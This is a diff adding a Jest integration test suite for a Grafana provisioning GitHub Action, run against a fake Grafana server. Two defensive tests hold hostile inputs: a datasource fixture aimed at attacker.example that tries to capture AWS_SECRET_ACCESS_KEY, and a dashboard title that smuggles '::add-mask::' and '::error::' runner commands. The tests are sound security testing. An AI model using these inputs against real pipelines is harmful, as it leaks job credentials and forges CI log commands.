@@ -1,0 +1,335 @@
+/**
+ * The action through the real skeleton (runMain with a recording runner) and its real clients, against the fake
+ * Grafana on every version profile: apply twice (the second run all unchanged, with zero write requests), a dry run
+ * failing on drift, a UI edit detected and left alone, dashboards saved in their folder with the commit and run URL,
+ * the bootstrap token and the deploy annotation handed to the post step, and no secret in the log.
+ */
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { runMain, runPost } from '@aws-delivery/action-kit';
+import { recordingRunner, type RecordingRunner } from '@aws-delivery/action-kit/recording';
+import { startFakeGrafana, type FakeGrafana, type GrafanaVersion } from '@aws-delivery/testing';
+import { grafanaProvision } from '../src/action.js';
+import { cleanup } from '../src/cleanup.js';
+import { RESOURCES, SECRETS } from './resources.js';
+import { workspace, type Workspace } from './workspace.js';
+
+const SECRET_INPUT = Object.entries(SECRETS)
+  .map(([name, value]) => `${name}=${value}`)
+  .join('\n');
+
+const GITHUB_ENV = {
+  GITHUB_SHA: '0123456789abcdef0123456789abcdef01234567',
+  GITHUB_SERVER_URL: 'https://github.example.com',
+  GITHUB_REPOSITORY: 'fintech/payments',
+  GITHUB_RUN_ID: '4242',
+};
+
+/** Every log line, and every output, must be free of these. */
+function expectNoSecretPrinted(io: RecordingRunner, secrets: readonly string[]): void {
+  const printed = [...io.recorded.log.map((l) => l.message), ...io.recorded.summary].join('\n');
+  for (const secret of secrets) {
+    expect(printed).not.toContain(secret);
+    expect(io.recorded.masks).toContain(secret);
+  }
+}
+
+describe.each(['9.5', '10.4', '11.6', '12.x'] as GrafanaVersion[])(
+  'grafana-provision against the fake Grafana %s',
+  (version) => {
+    let fake: FakeGrafana;
+    let token: string;
+    let ws: Workspace;
+    const step = async (inputs: Record<string, string> = {}) => {
+      const io = recordingRunner({
+        inputs: { 'grafana-url': fake.url, token, secrets: SECRET_INPUT, ...inputs },
+        env: { GITHUB_WORKSPACE: ws.dir, ...GITHUB_ENV },
+      });
+      const outcome = await runMain(grafanaProvision, { io });
+      return { io, outcome };
+    };
+
+    beforeAll(async () => {
+      fake = await startFakeGrafana({ version, basicAuth: { user: 'admin', password: 'bootstrap-pass' } });
+      token = fake.createServiceAccountToken().key;
+      ws = workspace(RESOURCES);
+    });
+    afterAll(async () => {
+      await fake.stop();
+      ws.remove();
+    });
+
+    it('first run: says which version and dialect it found, creates everything in order, outputs counts and URLs', async () => {
+      const { io, outcome } = await step();
+      expect(io.lines('error')).toEqual([]);
+      expect(outcome?.ok).toBe(true);
+      const dialect = version === '12.x' ? '/apis dialect' : '/api dialect';
+      expect(io.lines('info').find((l) => l.startsWith('Grafana '))).toContain(dialect);
+      const folders = version === '11.6' || version === '12.x' ? 3 : 2;
+      expect(io.recorded.outputs).toMatchObject({
+        created: String(folders + 7),
+        updated: '0',
+        unchanged: '0',
+        deleted: '0',
+        changed: 'true',
+      });
+      expect(JSON.parse(io.recorded.outputs['dashboard-urls'] ?? '{}')).toMatchObject({
+        'pay-api': `${fake.url}/d/pay-api`,
+        home: `${fake.url}/d/home`,
+      });
+      const dashboard = fake.store.dashboards.get('pay-api');
+      const prod = [...fake.store.folders.values()].find((f) => f.uid === dashboard?.folderUid);
+      expect(prod?.title).toMatch(/Prod$/);
+      if (version !== '12.x')
+        expect(dashboard?.versions.at(-1)?.message).toBe(
+          'grafana-provision commit 0123456789abcdef0123456789abcdef01234567 https://github.example.com/fintech/payments/actions/runs/4242',
+        );
+      expect(fake.store.datasources.get('prom')?.secureJsonData).toEqual({ basicAuthPassword: 'prom-secret-1' });
+      expect(io.recorded.summary.join('\n')).toContain('| dashboard | Payments API | create |');
+      expectNoSecretPrinted(io, [token, ...Object.values(SECRETS)]);
+    });
+
+    it('second run: all unchanged, with zero write requests', async () => {
+      const before = fake.writeRequests().length;
+      const { io, outcome } = await step();
+      expect(outcome?.ok).toBe(true);
+      expect(fake.writeRequests().slice(before)).toEqual([]);
+      expect(io.recorded.outputs).toMatchObject({ created: '0', updated: '0', deleted: '0', changed: 'false' });
+      expect(Number(io.recorded.outputs.unchanged)).toBeGreaterThan(7);
+      expect(io.recorded.summary.join('\n')).not.toMatch(/\| (create|update|delete)/);
+      expect(io.lines('info')).toContainEqual(expect.stringMatching(/^Applied 0 change\(s\)/));
+    });
+
+    it('a dry run passes when nothing differs, and fails on drift without writing', async () => {
+      expect((await step({ 'dry-run': 'true' })).outcome?.ok).toBe(true);
+      ws.write(
+        RESOURCES.map((f) =>
+          f.path.endsWith('overview.json')
+            ? { ...f, text: f.text.replace('Platform overview', 'Platform at a glance') }
+            : f,
+        ),
+      );
+      const before = fake.writeRequests().length;
+      const { io, outcome } = await step({ 'dry-run': 'true' });
+      expect(outcome?.ok).toBe(false);
+      expect(io.lines('error')).toEqual([
+        expect.stringMatching(/^grafana-provision: Drift: Grafana differs from grafana \(0 to create, 1 to update/),
+      ]);
+      expect(io.recorded.outputs.changed).toBe('true');
+      expect(fake.writeRequests().length).toBe(before);
+      ws.write(RESOURCES);
+    });
+
+    it('a dashboard edited in the UI is reported and left alone; overwrite-ui-edits replaces it', async () => {
+      fake.ui.editDashboard('pay-db', (model) => void (model.description = 'tuned by hand'));
+      const { io, outcome } = await step();
+      expect(outcome?.ok).toBe(true);
+      expect(io.lines('warning')).toContainEqual(expect.stringMatching(/dashboard "Payments DB" was edited in the UI/));
+      expect(io.recorded.outputs.changed).toBe('false');
+      expect(fake.store.dashboards.get('pay-db')?.json.description).toBe('tuned by hand');
+      expect((await step({ 'dry-run': 'true' })).outcome?.ok).toBe(false);
+      const forced = await step({ 'overwrite-ui-edits': 'true' });
+      expect(forced.io.recorded.outputs).toMatchObject({ updated: '1', changed: 'true' });
+      expect(fake.store.dashboards.get('pay-db')?.json.description).toBeUndefined();
+      expect((await step({ 'dry-run': 'true' })).outcome?.ok).toBe(true);
+    });
+
+    it('text from the server (a title edited in the UI) never becomes a line the runner could read as a command', async () => {
+      fake.ui.editDashboard('home', (model) => void (model.title = 'Home\n::add-mask::x\r\n::error::forged'));
+      const { io } = await step();
+      const lines = [...io.recorded.log.map((l) => l.message), ...io.recorded.summary].flatMap((m) => m.split(/\r?\n/));
+      expect(lines.filter((l) => l.trimStart().startsWith('::'))).toEqual([]);
+      // The edit is shown (as a value in the field-level diff), only never at the start of a line.
+      expect(io.lines('info')).toContainEqual(
+        expect.stringMatching(/^ {2}update .*title: .*::add-mask::x.*::error::forged/),
+      );
+      await step({ 'overwrite-ui-edits': 'true' });
+      expect(fake.store.dashboards.get('home')?.json.title).toBe('Home');
+    });
+
+    it("a secure field never takes a value from the environment (the job's own credentials)", async () => {
+      const dir = workspace([
+        {
+          path: 'datasources/exfiltrate.yaml',
+          text: 'name: Out\ntype: prometheus\nuid: out\nurl: http://attacker.example\nsecureJsonData:\n  basicAuthPassword: ${AWS_SECRET_ACCESS_KEY}\n',
+        },
+      ]);
+      const io = recordingRunner({
+        inputs: { 'grafana-url': fake.url, token },
+        env: { GITHUB_WORKSPACE: dir.dir, AWS_SECRET_ACCESS_KEY: 'job-credential-secret' },
+      });
+      const outcome = await runMain(grafanaProvision, { io });
+      dir.remove();
+      expect(outcome?.ok).toBe(false);
+      expect(io.lines('error')).toEqual([expect.stringContaining('the secret AWS_SECRET_ACCESS_KEY is not set')]);
+      expect(fake.store.datasources.get('out')).toBeUndefined();
+    });
+
+    it('basic auth with create-token: a masked token output for later steps, deleted by the post step; the deploy annotation closed by it', async () => {
+      const inputs = {
+        token: '',
+        username: 'admin',
+        password: 'bootstrap-pass',
+        'create-token': 'true',
+        annotate: 'true',
+        'annotation-tags': 'service:payments,env:prod',
+      };
+      const { io, outcome } = await step(inputs);
+      expect(io.lines('error')).toEqual([]);
+      expect(outcome?.ok).toBe(true);
+      const created = io.recorded.outputs.token ?? '';
+      expect(created).toMatch(/^glsa_/);
+      expectNoSecretPrinted(io, [created, 'bootstrap-pass']);
+      const annotationId = Number(io.recorded.outputs['annotation-id']);
+      const annotation = fake.store.annotations.get(annotationId);
+      expect(annotation?.tags).toEqual(
+        expect.arrayContaining(['service:payments', 'env:prod', 'grafana-provision', 'commit:0123456789ab']),
+      );
+      expect(annotation?.timeEnd).toBe(annotation?.time);
+      const tokensBefore = fake.store.tokens.size;
+      const state = Object.fromEntries(
+        Object.entries(io.recorded.state).map(([k, v]) => [k, JSON.parse(v) as unknown]),
+      );
+      expect(JSON.stringify(state)).not.toContain(created);
+      await new Promise((resolve) => setTimeout(resolve, 5));
+      const post = recordingRunner({ inputs: { 'grafana-url': fake.url, ...inputs }, env: { ...GITHUB_ENV }, state });
+      expect(await runPost('grafana-provision', cleanup, { io: post })).toEqual({ ok: true, result: undefined });
+      expect(fake.store.tokens.size).toBe(tokensBefore - 1);
+      expect(fake.store.annotations.get(annotationId)?.timeEnd).toBeGreaterThan(annotation?.time ?? 0);
+      expectNoSecretPrinted(post, ['bootstrap-pass']);
+    });
+
+    it('prune: deletes only what it owns, keeps a folder holding an unmanaged dashboard, then removes it once empty', async () => {
+      const prodUid = fake.store.dashboards.get('pay-api')?.folderUid ?? '';
+      fake.ui.saveDashboard({ uid: 'hand-made', title: 'Hand made' }, { folderUid: prodUid });
+      const gone = [
+        'dashboards/Platform/Payments/Prod/api.json',
+        'dashboards/Platform/Payments/Prod/db.json',
+        'alert-rules/Platform/Payments/Prod/availability.yaml',
+      ];
+      ws.write(RESOURCES.filter((f) => !gone.includes(f.path)));
+      const readsBefore = fake.requests.length;
+      const kept = await step();
+      expect(kept.io.recorded.outputs.deleted).toBe('0');
+      // An unmanaged dashboard is known from search alone: its model is never read.
+      const reads = fake.requests.slice(readsBefore).filter((r) => r.path.startsWith('/api/dashboards/uid/'));
+      expect(reads.map((r) => r.path)).not.toContain('/api/dashboards/uid/hand-made');
+      if (version !== '12.x') expect(reads.map((r) => r.path)).toContain('/api/dashboards/uid/pay-api');
+      expect(kept.io.lines('warning')).toContainEqual(expect.stringMatching(/enable prune to delete them/));
+      const pruned = await step({ prune: 'true' });
+      expect(pruned.io.lines('error')).toEqual([]);
+      expect(pruned.io.recorded.outputs.deleted).toBe('3');
+      expect(pruned.io.recorded.summary.join('\n')).toMatch(/\| folder \| [^|]*Prod \| delete \(blocked\) \|/);
+      expect(fake.store.dashboards.has('pay-api')).toBe(false);
+      expect(fake.store.dashboards.has('hand-made')).toBe(true);
+      expect(fake.store.folders.has(prodUid)).toBe(true);
+      fake.ui.deleteDashboard('hand-made');
+      await step({ prune: 'true' });
+      expect(fake.store.folders.has(prodUid)).toBe(false);
+      expect((await step({ prune: 'true', 'dry-run': 'true' })).outcome?.ok).toBe(true);
+      ws.write(RESOURCES);
+    });
+  },
+);
+
+describe('disable-provenance (https://grafana.com/docs/grafana/latest/developers/http_api/alerting_provisioning/)', () => {
+  it.each([
+    ['false', 'api', false],
+    ['true', '', true],
+  ] as const)(
+    'disable-provenance: %s writes rules with provenance "%s" (header sent: %s)',
+    async (flag, provenance, header) => {
+      const fake = await startFakeGrafana({ version: '11.6' });
+      const ws = workspace(RESOURCES);
+      try {
+        const io = recordingRunner({
+          inputs: {
+            'grafana-url': fake.url,
+            token: fake.createServiceAccountToken().key,
+            secrets: SECRET_INPUT,
+            'disable-provenance': flag,
+          },
+          env: { GITHUB_WORKSPACE: ws.dir },
+        });
+        expect((await runMain(grafanaProvision, { io }))?.ok).toBe(true);
+        expect(fake.store.alertRules.get('pay-api-down')?.provenance).toBe(provenance);
+        const writes = fake
+          .writeRequests()
+          .filter((r) => r.path.includes('/rule-groups/') || r.path.includes('/contact-points'));
+        expect(writes.map((r) => r.disableProvenance)).toEqual([header, header]);
+      } finally {
+        await fake.stop();
+        ws.remove();
+      }
+    },
+  );
+});
+
+describe('failures while applying (https://grafana.com/docs/grafana/latest/developers/http_api/dashboard/)', () => {
+  let fake: FakeGrafana;
+  let ws: Workspace;
+  beforeAll(async () => {
+    fake = await startFakeGrafana({ version: '10.4' });
+    ws = workspace(RESOURCES);
+  });
+  afterAll(async () => {
+    await fake.stop();
+    ws.remove();
+  });
+  const step = async (inputs: Record<string, string> = {}) => {
+    const io = recordingRunner({
+      inputs: {
+        'grafana-url': fake.url,
+        token: fake.createServiceAccountToken().key,
+        secrets: SECRET_INPUT,
+        ...inputs,
+      },
+      env: { GITHUB_WORKSPACE: ws.dir },
+      debug: true,
+    });
+    return { io, outcome: await runMain(grafanaProvision, { io }) };
+  };
+
+  it('a 503 and a dropped connection are retried and the run succeeds', async () => {
+    fake.injectFault({ method: 'POST', path: '/api/dashboards/db', status: 503 });
+    fake.injectFault({ method: 'GET', path: '/api/datasources', status: 0, drop: true });
+    const { io, outcome } = await step();
+    expect(io.lines('error')).toEqual([]);
+    expect(outcome?.ok).toBe(true);
+    expect(io.lines('debug').filter((l) => /retrying in \d+ ms/.test(l))).toHaveLength(2);
+    expect(fake.store.dashboards.size).toBe(4);
+  });
+
+  it('a 412 version-mismatch while saving says the dashboard was edited during the step; a 403 is not retried', async () => {
+    ws.write(
+      RESOURCES.map((f) =>
+        f.path.endsWith('home.json') ? { ...f, text: f.text.replace('"Home"', '"Home page"') } : f,
+      ),
+    );
+    fake.injectFault({
+      method: 'POST',
+      path: '/api/dashboards/db',
+      status: 412,
+      body: { status: 'version-mismatch', message: 'The dashboard has been changed by someone else' },
+    });
+    const stale = await step();
+    expect(stale.outcome?.ok).toBe(false);
+    expect(stale.io.lines('error')).toEqual([
+      'grafana-provision: Could not update dashboard "Home page": it was changed on the server after it was read ' +
+        '(Grafana answered 412 to POST /api/dashboards/db: The dashboard has been changed by someone else.) Hint: ' +
+        'Someone edited it in the UI while this step ran. Run the step again to see the edit in the plan.',
+    ]);
+    const before = fake.requests.length;
+    fake.injectFault({
+      method: 'POST',
+      path: '/api/dashboards/db',
+      status: 403,
+      body: { message: 'Permission denied' },
+    });
+    const denied = await step();
+    expect(denied.io.lines('error')).toEqual([
+      expect.stringMatching(/answered 403 .*Hint: The service account lacks a permission/),
+    ]);
+    expect(fake.requests.slice(before).filter((r) => r.path === '/api/dashboards/db')).toHaveLength(1);
+    ws.write(RESOURCES);
+  });
+});
